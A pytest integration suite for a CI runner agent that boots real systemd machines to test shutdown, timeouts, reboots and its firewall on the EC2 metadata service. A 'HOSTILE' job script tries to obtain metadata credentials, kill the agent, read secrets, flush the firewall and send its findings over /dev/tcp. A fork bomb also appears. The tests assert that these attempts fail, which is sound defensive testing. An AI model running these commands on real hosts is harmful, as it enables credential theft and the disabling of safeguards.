"""Machines that really boot: systemd, cloud-init, our units. However a life goes, the word is said and the machine is off."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import signal
import time
from pathlib import Path
from textwrap import indent
from typing import Any

import pytest

from agent.contract.messages import Busy, Started, Status
from agent.phases import Phase
from tests.conftest import Moto
from tests.integration.agent_harness import BRIEF, STRIKE
from tests.machines import tree
from tests.machines.boot_env import HOLD, OFF_S, BootEnv
from tests.waiting import sooner_or_later

NEEDED = [tool for tool in ("systemd-nspawn", "mmdebstrap", "nft", "ip") if shutil.which(tool) is None]
pytestmark = [
    pytest.mark.skipif(
        os.geteuid() != 0 or bool(NEEDED), reason=f"NOTHING WAS BOOTED: needs root{''.join(f', {tool}' for tool in NEEDED)}"
    ),
]
POLITE_S, UNIT_S, WORD_S = 65.0, 60.0, 120.0
"""Bounds of the failure table from the failure, with these machines' grace of 5 s: an orderly end, an agent that died, a word
that nobody takes."""
LOOKED_AT_S = 60.0
"""The hard deadline is looked at so often."""


def test_a_green_job_on_a_baked_image(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play("id -un; echo $RUNS_FLEET_ATTEMPT")
    boot_env.boot()

    boot_env.machine.wait_off(OFF_S)

    messages = boot_env.messages()
    assert [type(m).__name__ for m in messages] == ["Started", "Busy", "FinalWord"], boot_env.machine.console
    word: Any = messages[-1]
    assert (word.status, word.error, boot_env.state()) == (Status.SUCCESS, "", "terminated")


def test_a_red_job_on_a_baked_image(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play("exit 3")
    boot_env.boot()

    boot_env.machine.wait_off(OFF_S)

    word = boot_env.word()
    assert (word.status, word.reason, boot_env.state()) == (Status.FAILURE, "job_failed", "terminated")


def test_a_stock_image_installs_the_bundle_and_lives_the_same_life(moto: Moto, bundle: Path, tmp_path: Path) -> None:
    boot_env = BootEnv(moto, tree.stock(), tmp_path)
    try:
        s3 = moto.client("s3")
        s3.create_bucket(Bucket="config")
        content = bundle.read_bytes()
        s3.put_object(Bucket="config", Key=f"agent/{bundle.name}", Body=content)
        archive = tree.runner()
        key = f"runners/{archive.version}/x64/actions-runner-{archive.version}.tar.gz"
        s3.put_object(Bucket="config", Key=key, Body=archive.content, Metadata={"sha256": archive.sha256})
        boot_env.configure(runner_version=archive.version, runner_sha256=archive.sha256, runner_by_default=True)
        boot_env.boot(
            RUNS_FLEET_CONFIG_BUCKET="config", RUNS_FLEET_AGENT_BUNDLE=f"agent/{bundle.name}",
            RUNS_FLEET_AGENT_SHA256=hashlib.sha256(content).hexdigest(), RUNS_FLEET_IDLE_TIMEOUT_SECONDS="1",
            RUNS_FLEET_GITHUB_API_URL="http://10.77.0.1:9",
        )  # fmt: skip

        boot_env.machine.wait_off(OFF_S)

        word = boot_env.word()
        assert (word.status, word.reason, word.cache_outcome) == (Status.INTERRUPTED, "unclaimed", "hit"), (
            boot_env.machine.console
        )
        assert boot_env.state() == "terminated"
    finally:
        boot_env.close()


def test_a_bundle_with_another_digest_is_never_run(moto: Moto, bundle: Path, tmp_path: Path) -> None:
    boot_env = BootEnv(moto, tree.stock(), tmp_path)
    try:
        moto.client("s3").create_bucket(Bucket="config")
        moto.client("s3").put_object(Bucket="config", Key="agent", Body=bundle.read_bytes())
        boot_env.boot(RUNS_FLEET_CONFIG_BUCKET="config", RUNS_FLEET_AGENT_BUNDLE="agent", RUNS_FLEET_AGENT_SHA256="0" * 64)

        boot_env.machine.wait_off(60)

        assert "bundle: FAILED" in boot_env.boot_failure().error
    finally:
        boot_env.close()


def test_a_spot_notice_in_the_middle_of_a_job(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play(HOLD)
    boot_env.boot()
    boot_env.machine.shows("message.outcome kind=busy")

    boot_env.metadata.spot_notice(in_s=100)
    boot_env.machine.goes_off(POLITE_S)

    word = boot_env.word()
    assert (word.status, word.reason, boot_env.state()) == (Status.INTERRUPTED, "spot_notice", "terminated")


def test_the_maximum_runtime(boot_env: BootEnv) -> None:
    boot_env.configure(max_runtime_minutes=0.02)
    boot_env.play("trap '' INT TERM; while :; do sleep 0.05; done")
    boot_env.boot(RUNS_FLEET_GRACE_SECONDS="0.5")

    boot_env.machine.wait_off(OFF_S)

    word = boot_env.word()
    assert (word.status, word.reason, boot_env.state()) == (Status.TIMEOUT, "max_runtime", "terminated")


def test_systemctl_stop_is_an_orderly_end(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play(HOLD)
    boot_env.boot()
    boot_env.machine.shows("message.outcome kind=busy")

    boot_env.machine.run("systemctl", "stop", "--no-block", "runs-fleet-agent")
    boot_env.machine.goes_off(POLITE_S)

    word = boot_env.word()
    assert (word.status, word.reason, word.job_result) == (Status.INTERRUPTED, "signal", "Canceled")


def test_a_power_button_is_an_orderly_end(boot_env: BootEnv) -> None:
    """What EC2 sends when somebody stops or terminates the instance: every unit stops, the agent before its job."""
    boot_env.configure()
    boot_env.play(HOLD)
    boot_env.boot()
    boot_env.machine.shows("message.outcome kind=busy")

    boot_env.machine.run("systemctl", "poweroff")
    boot_env.machine.goes_off(POLITE_S)

    word = boot_env.word()
    assert (word.status, word.reason, word.job_result) == (Status.INTERRUPTED, "signal", "Canceled"), boot_env.machine.console


HELD = {
    Phase.WAKING: "no instance id", Phase.PREPARING: "no configuration", Phase.REGISTERING: "config.sh hangs",
    Phase.RUNNING: "a long job",
    Phase.SETTLING: "logs hang", Phase.REPORTING: "the queue hangs", Phase.TERMINATING: "EC2 hangs",
}  # fmt: skip


@pytest.mark.parametrize("phase", HELD, ids=lambda phase: phase.value)
def test_a18_an_agent_killed_in_any_phase(boot_env: BootEnv, phase: Phase) -> None:
    boot_env.play(HOLD if phase is Phase.RUNNING else "true")
    dead = boot_env.aws_hung
    slow: dict[Phase, dict[str, str]] = {
        Phase.SETTLING: {"AWS_ENDPOINT_URL_LOGS": dead, "RUNS_FLEET_LOG_GROUP": "/group"},
        Phase.REPORTING: {"AWS_ENDPOINT_URL_SQS": dead}, Phase.TERMINATING: {"AWS_ENDPOINT_URL_EC2": dead},
    }  # fmt: skip
    if phase is Phase.REGISTERING:
        boot_env.configure(jit_config=None, jit_token="AREGtoken12345", labels=["x"])
        boot_env.machine.put("/opt/actions-runner/config.sh", "#!/bin/bash\nexec sleep 60\n", 0o755)
    elif phase not in (Phase.WAKING, Phase.PREPARING):
        boot_env.configure()
    if phase is Phase.WAKING:
        boot_env.machine.put("/etc/systemd/system/runs-fleet-agent.service.d/late.conf", boot_env.nameless())
    boot_env.boot(**slow.get(phase, {}))
    boot_env.machine.shows(f"phase.entered phase={phase.value}")

    boot_env.machine.run("systemctl", "kill", "--kill-whom=main", "--signal=KILL", "runs-fleet-agent")
    boot_env.machine.goes_off(UNIT_S)

    said = [m.status for m in boot_env.messages() if not isinstance(m, Started | Busy)]
    expected = {
        Phase.WAKING: ["bootstrap_failed"], Phase.PREPARING: ["bootstrap_failed"], Phase.TERMINATING: ["success"],
        Phase.REPORTING: ["success", "failure"],  # the very word, once it is sealed into the last will; it is about to be
    }.get(phase, ["failure"])  # fmt: skip
    assert len(said) == 1, boot_env.machine.console
    assert said[0] in expected, boot_env.machine.console


@pytest.mark.parametrize("phase", BRIEF, ids=lambda phase: phase.value)
def test_a18_an_agent_killed_in_a_brief_phase(boot_env: BootEnv, phase: Phase) -> None:
    """The interpreter strikes when it reports that phase's call."""
    event, word = BRIEF[phase]
    strike = STRIKE.format(event=event, word=word)
    boot_env.machine.put("/usr/lib/python3.11/sitecustomize.py", f"import os\nif not os.getuid():\n{indent(strike, '    ')}")
    boot_env.configure()
    boot_env.play("true")
    boot_env.boot()

    boot_env.machine.wait_off(OFF_S)

    entered = re.findall(r"phase\.entered phase=(\w+)", boot_env.machine.console)
    assert entered[-1] == phase.value
    assert "status=9/KILL" in boot_env.machine.console
    assert boot_env.word().reason == ("agent_died" if phase is Phase.STARTING else "")


def test_a_python_that_cannot_start(boot_env: BootEnv) -> None:
    boot_env.machine.put("/usr/local/lib/runs-fleet/agent/subprocess.py", "import no_such_module\n")
    boot_env.boot()

    boot_env.machine.wait_off(OFF_S)

    assert "no_such_module" in boot_env.boot_failure().error, boot_env.machine.console


def test_a_python_that_is_not_there(boot_env: BootEnv) -> None:
    boot_env.machine.put("/usr/local/bin/runs-fleet-agent", "#!/nowhere/python\n", 0o755)
    boot_env.boot()

    boot_env.machine.wait_off(OFF_S)

    assert boot_env.boot_failure().instance_id == boot_env.instance_id


def test_a_unit_that_is_masked_is_said_by_the_boot_script_long_before_the_deadline(boot_env: BootEnv) -> None:
    boot_env.machine.link("/etc/systemd/system/runs-fleet-agent.service", "/dev/null")
    boot_env.boot()

    boot_env.machine.wait_off(OFF_S)

    assert "masked" in boot_env.boot_failure().error
    assert "no agent was started within" not in boot_env.machine.console, "cloud-init may say besides that it failed"


def test_a_machine_on_which_nobody_starts_an_agent(boot_env: BootEnv) -> None:
    boot_env.machine.put("/etc/runs-fleet/deadline.env", "RUNS_FLEET_START_SECONDS=3\n")
    boot_env.machine.boot("#cloud-boothook\n#!/bin/bash\nexit 0\n")

    boot_env.machine.wait_off(OFF_S)

    assert "no agent was started within 3 s" in boot_env.machine.console


def test_a_cloud_init_that_fails_altogether(boot_env: BootEnv) -> None:
    boot_env.machine.put("/usr/lib/python3/dist-packages/cloudinit/cmd/main.py", "raise SystemExit('broken')\n")
    boot_env.boot()

    boot_env.machine.wait_off(OFF_S)

    assert boot_env.machine.boots == 1


def test_an_agent_that_hangs_is_ended_by_the_hard_deadline(boot_env: BootEnv) -> None:
    boot_env.with_shipped_timer()
    boot_env.configure()
    boot_env.play(HOLD)
    boot_env.boot()
    boot_env.machine.shows("message.outcome kind=busy")
    boot_env.machine.run("systemctl", "kill", "--kill-whom=main", "--signal=STOP", "runs-fleet-agent")

    looked = ["test", "-s", "/var/lib/runs-fleet/lived"]
    assert sooner_or_later(lambda: boot_env.machine.run(*looked).returncode == 0), "the deadline was looked at once"
    boot_env.machine.run("sh", "-c", "echo 0 > /var/lib/runs-fleet/limit-minutes")
    boot_env.machine.goes_off(LOOKED_AT_S + UNIT_S)

    assert "switching off: the machine has lived for its 0 minutes" in boot_env.machine.console
    assert boot_env.word().reason == "agent_died"


def test_a_metadata_service_that_is_slow_and_flaky_at_first(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play("true")
    boot_env.imds.flaky = lambda number: ("refuse", "hang", "on")[number - 1] if number < 3 else "on"
    boot_env.boot()

    boot_env.machine.wait_off(OFF_S)

    assert boot_env.word().status is Status.SUCCESS


def test_without_a_metadata_service_nothing_is_said_and_the_machine_goes(boot_env: BootEnv) -> None:
    boot_env.imds.mode = boot_env.imds6.mode = "refuse"
    boot_env.boot()

    boot_env.machine.wait_off(90)

    assert boot_env.messages() == []


@pytest.mark.parametrize("why", ["configuration_missing", "configuration_denied"])
def test_a_configuration_that_cannot_be_had(boot_env: BootEnv, why: str) -> None:
    denied = {"AWS_ENDPOINT_URL_SSM": boot_env.aws_denied()} if why == "configuration_denied" else {}
    boot_env.boot(RUNS_FLEET_CONFIG_TIMEOUT_SECONDS="2", **denied)

    boot_env.machine.wait_off(OFF_S)

    assert (boot_env.word().reason, boot_env.state()) == (why, "terminated")


def test_a_machine_that_may_not_terminate_itself_powers_off(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play("true")
    boot_env.boot(AWS_ENDPOINT_URL_EC2=boot_env.aws_denied())

    boot_env.machine.wait_off(OFF_S)

    messages: Any = boot_env.messages()
    assert (messages[0].self_termination, messages[-1].status) == ("UnauthorizedOperation", Status.SUCCESS)
    assert (
        boot_env.state() == "running"
    )  # in EC2 the launch template's shutdown behaviour ends it; moto's instance knows no power


def test_sudo_is_given_only_where_it_was_asked_for_and_selfcheck_says_what_that_means(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play(f"sudo -n true && echo granted; {HOLD}")
    boot_env.boot(RUNS_FLEET_JOB_SUDO="yes")
    boot_env.machine.shows("message.outcome kind=busy")

    told = boot_env.machine.run("runs-fleet-agent", "selfcheck")
    boot_env.machine.run("systemctl", "stop", "--no-block", "runs-fleet-agent")
    boot_env.machine.wait_off(OFF_S)

    assert "the job has sudo, so it is root when it wants to be" in told.stdout
    assert "FAIL should  rights" in told.stdout


def test_a_cloud_that_hangs(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play(HOLD)
    boot_env.boot()
    boot_env.machine.shows("message.outcome kind=busy")

    boot_env.aws.mode = "hang"
    boot_env.aws.drop()
    boot_env.machine.run("systemctl", "stop", "--no-block", "runs-fleet-agent")
    boot_env.machine.goes_off(WORD_S)

    assert "power_off.running" in boot_env.machine.console


def test_a_wire_that_is_cut(boot_env: BootEnv) -> None:
    boot_env.configure(max_runtime_minutes=0.05)
    boot_env.play(HOLD)
    boot_env.boot()
    boot_env.machine.shows("message.outcome kind=busy")

    boot_env.network.cut()
    boot_env.machine.goes_off(0.05 * 60 + 5 + WORD_S)

    assert "power_off.running" in boot_env.machine.console


def test_a_disk_that_is_full(moto: Moto, baked: Path, tmp_path: Path) -> None:
    boot_env = BootEnv(moto, baked, tmp_path, disk_mb=96)
    try:
        boot_env.configure()
        boot_env.play("dd if=/dev/zero of=$HOME/much bs=1M 2>/dev/null; echo full; while :; do sleep 0.05; done")
        boot_env.boot()

        boot_env.machine.wait_off(60)

        word = boot_env.word()
        assert (word.status, boot_env.state()) == (Status.FAILURE, "terminated")
        assert word.reason in ("disk_full", "job_failed")  # whichever notices first, the runner or the agent
    finally:
        boot_env.close()


def test_a_fork_bomb_ends_in_the_jobs_own_unit(boot_env: BootEnv) -> None:
    boot_env.configure(max_runtime_minutes=0.05)
    boot_env.play("f() { f | f & }; f; sleep 60")
    boot_env.boot(RUNS_FLEET_GRACE_SECONDS="1")

    boot_env.machine.wait_off(60)

    word = boot_env.word()
    assert word.status in (Status.TIMEOUT, Status.FAILURE)  # whether bash gives up before its time is up is bash's affair
    assert boot_env.state() == "terminated"


def test_a_memory_hog_is_killed_and_the_agent_is_not(boot_env: BootEnv) -> None:
    boot_env.configure(max_runtime_minutes=0.5)
    told = boot_env.listen(5002)
    limits = "systemctl show runs-fleet-job --property=MemoryMax --value > /dev/tcp/10.77.0.1/5002"
    boot_env.play(f"{limits}; python3 -c 'hog = [bytearray(50 << 20) for _ in range(200)]'; [ $? = 0 ] || exit 9")
    boot_env.boot()

    boot_env.machine.wait_off(60)

    word = boot_env.word()
    assert (word.status, boot_env.state()) == (Status.FAILURE, "terminated")
    assert 0 < int(told()) < 1500 << 20, "less than the container has"


@pytest.mark.parametrize(("how", "reason"), [("reboot", "signal"), ("panic", "rebooted")])
def test_a_machine_that_starts_again_runs_no_second_job(boot_env: BootEnv, how: str, reason: str) -> None:
    """`panic`: systemd dies without a goodbye, which in a container is what a kernel's panic and reset look like."""
    boot_env.configure()
    boot_env.play(HOLD)
    boot_env.boot()
    boot_env.machine.shows("message.outcome kind=busy")

    boot_env.machine.run("systemctl", "reboot", *(["--force", "--force"] if how == "panic" else []))
    boot_env.machine.goes_off(UNIT_S)

    assert boot_env.machine.boots == 2
    word = boot_env.word()
    assert (word.status, word.reason, word.job_id, word.session_id) == (Status.INTERRUPTED, reason, "7", "s-1")
    assert boot_env.machine.console.count("phase.entered phase=running") == 1


HOSTILE = """
out=/tmp/found; : > $out
token="curl -s --max-time 2 -X PUT -H X-aws-ec2-metadata-token-ttl-seconds:60"
$token http://169.254.169.254/latest/api/token && echo METADATA >> $out
$token 'http://[fd00:ec2::254]/latest/api/token' && echo METADATA6 >> $out
curl -s --max-time 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/ && echo METADATA1 >> $out
agent=$(systemctl show --property=MainPID --value runs-fleet-agent)
kill -9 $agent 2>/dev/null && echo KILLED >> $out
kill -STOP $agent 2>/dev/null && echo STOPPED >> $out
cat /proc/$agent/environ >/dev/null 2>&1 && echo ENVIRON >> $out
cat /etc/runs-fleet/agent.env >/dev/null 2>&1 && echo SETTINGS >> $out
ls /var/lib/runs-fleet >/dev/null 2>&1 && echo STATE >> $out
find /opt/runs-fleet -name '*spool*' -readable -type f 2>/dev/null | grep -q . && echo SPOOL >> $out
cat /var/lib/cloud/instance/user-data.txt >/dev/null 2>&1 && echo USERDATA >> $out
systemctl stop runs-fleet-agent 2>/dev/null && echo STOPPED-UNIT >> $out
systemctl stop runs-fleet-deadline.timer 2>/dev/null && echo DISARMED >> $out
systemctl mask runs-fleet-power-off 2>/dev/null && echo MASKED >> $out
echo x > /usr/local/lib/runs-fleet/power-off 2>/dev/null && echo REWRITTEN >> $out
rm -f /usr/local/lib/runs-fleet/deadline 2>/dev/null && echo REMOVED >> $out
nft flush ruleset 2>/dev/null && echo FIREWALL >> $out
sudo -n true 2>/dev/null && echo ROOT >> $out
systemctl show runs-fleet-job --property=Environment | grep -q JITCONFIG && echo UNIT-ENVIRONMENT >> $out
for line in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $line; done 2>/dev/null | grep -q '[e]yJ' && echo ARGV >> $out
cat $out > /dev/tcp/10.77.0.1/5002
"""


def test_a_hostile_job_reaches_neither_credentials_nor_the_agent(boot_env: BootEnv) -> None:
    boot_env.configure()
    told = boot_env.listen(5002)
    boot_env.play(HOSTILE)
    boot_env.boot(RUNS_FLEET_LOG_GROUP="/group")

    boot_env.machine.wait_off(60)

    assert told() == "", boot_env.machine.console
    word = boot_env.word()
    assert (word.status, word.log_outcome, boot_env.state()) == (Status.SUCCESS, "shipped", "terminated")


def test_the_agent_itself_gets_its_credentials_past_the_firewall(boot_env: BootEnv) -> None:
    """There are no others on the machine: whatever was sent proves it. The rule's counter shows what kept the job away."""
    boot_env.configure()
    boot_env.play(f"curl -s --max-time 1 http://169.254.169.254/ || true; {HOLD}")
    boot_env.boot()
    boot_env.machine.shows("message.outcome kind=busy")
    deadline_s = time.monotonic() + 600
    while "packets 0 bytes 0 reject with icmp p" in (
        rules := boot_env.machine.run("nft", "list", "table", "inet", "runs_fleet").stdout
    ):
        assert time.monotonic() < deadline_s, rules

    boot_env.machine.run("systemctl", "stop", "--no-block", "runs-fleet-agent")
    boot_env.machine.wait_off(OFF_S)

    assert boot_env.word().status is Status.INTERRUPTED


LIVES = "touch /tmp/stayer; exec sleep 1000"
SEEN = "for _ in $(seq 800); do [ -e /tmp/stayer ] && break; sleep 0.1; done; [ -e /tmp/stayer ]"
"""The job is green only if what wants to outlive it was really there."""
STAYERS = {
    "a daemon of a new session": f"setsid setsid sh -c \"env -i sh -c '{LIVES}' & env -i sleep 1000\" >/dev/null 2>&1 &",
}


@pytest.mark.parametrize("how", STAYERS)
def test_nothing_of_a_job_outlives_its_end(boot_env: BootEnv, how: str) -> None:
    boot_env.configure()
    boot_env.play(f"{STAYERS[how]}\n{SEEN}")
    boot_env.boot()

    boot_env.machine.wait_off(2 * OFF_S)

    assert (boot_env.word().status, boot_env.state()) == (Status.SUCCESS, "terminated"), boot_env.machine.console[-3000:]


TOKEN = "curl -s --max-time 2 -X PUT -H X-aws-ec2-metadata-token-ttl-seconds:60 -o /dev/null -w '%{http_code}'"


def test_in_strict_mode_the_metadata_service_gives_nothing_even_to_a_job_that_is_root(boot_env: BootEnv) -> None:
    boot_env.configure()
    told = boot_env.listen(5002)
    boot_env.play(f"sudo -n {TOKEN} http://169.254.169.254/latest/api/token > /dev/tcp/10.77.0.1/5002")
    board = boot_env.aws_switchboard()
    boot_env.boot(
        RUNS_FLEET_STRICT_METADATA="yes", RUNS_FLEET_JOB_SUDO="yes", RUNS_FLEET_MAX_RUNTIME="60",
        RUNS_FLEET_LOG_GROUP="/group", AWS_ENDPOINT_URL_EC2=board,
    )  # fmt: skip

    boot_env.machine.wait_off(OFF_S)

    assert told() == "403", boot_env.machine.console
    word = boot_env.word()
    assert (word.status, word.log_outcome, boot_env.state()) == (Status.SUCCESS, "shipped", "terminated")


def test_in_strict_mode_a_machine_whose_metadata_stay_open_runs_no_job(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play("true")
    boot_env.boot(RUNS_FLEET_STRICT_METADATA="yes", RUNS_FLEET_MAX_RUNTIME="60", AWS_ENDPOINT_URL_EC2=boot_env.aws_denied())

    boot_env.machine.wait_off(OFF_S)

    assert boot_env.word().reason == "metadata_exposed"
    assert "phase.entered phase=running" not in boot_env.machine.console


def test_in_strict_mode_a_killed_agent_leaves_no_word_but_the_machine_goes(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.play(HOLD)
    boot_env.boot(RUNS_FLEET_STRICT_METADATA="yes", RUNS_FLEET_MAX_RUNTIME="60", AWS_ENDPOINT_URL_EC2=boot_env.aws_switchboard())
    boot_env.machine.shows("message.outcome kind=busy")

    boot_env.machine.run("systemctl", "kill", "--kill-whom=main", "--signal=KILL", "runs-fleet-agent")
    boot_env.machine.goes_off(UNIT_S)

    assert [type(message) for message in boot_env.messages()] == [Started, Busy]


def test_the_selfcheck_on_a_booted_machine(boot_env: BootEnv) -> None:
    boot_env.configure()
    boot_env.boot()
    boot_env.play(HOLD)
    boot_env.machine.shows("phase.entered phase=running")

    def failed() -> list[str]:
        said = boot_env.machine.run("runs-fleet-agent", "selfcheck")
        return [line.split()[2] for line in said.stdout.splitlines() if line.startswith("FAIL must")]

    told = boot_env.machine.run("runs-fleet-agent", "selfcheck")
    assert "the job's user gets no answer, root does" in told.stdout, told.stdout + told.stderr
    assert told.returncode == 0, told.stdout

    boot_env.machine.run("setpriv", "--reuid=runner", "--clear-groups", "sh", "-c", "echo '# more' >> /opt/actions-runner/run.sh")
    assert failed() == ["runner"]
    boot_env.machine.run("nft", "insert", "rule", "inet", "runs_fleet", "output", "accept")
    assert failed() == ["metadata", "firewall", "runner"]
    boot_env.machine.run("mv", "/usr/bin/curl", "/usr/bin/curled")
    boot_env.machine.run("nft", "-f", "/etc/runs-fleet/firewall.nft")
    assert failed() == ["metadata", "runner"]

    os.kill(boot_env.machine.first_process(), signal.SIGRTMIN + 4)  # systemd's own power-off signal
    boot_env.machine.wait_off(OFF_S)


def test_the_console_that_ec2_keeps_shows_how_far_a_machine_came(boot_env: BootEnv) -> None:
    boot_env.machine.put("/etc/systemd/journald.conf.d/console.conf", "[Journal]\n")  # as the image has it, without ours
    boot_env.configure()
    boot_env.play(HOLD)
    boot_env.boot()
    boot_env.machine.shows("phase.entered phase=running")

    boot_env.machine.run("systemctl", "stop", "--no-block", "runs-fleet-agent")
    boot_env.machine.goes_off(POLITE_S)

    entered = re.findall(r"phase\.entered phase=(\w+)", boot_env.machine.console)
    assert entered[-1] == "terminating" and "preparing" in entered
    assert "<5>" not in boot_env.machine.console and "message.outcome" not in boot_env.machine.console, (
        "a slow console gets no more"
    )
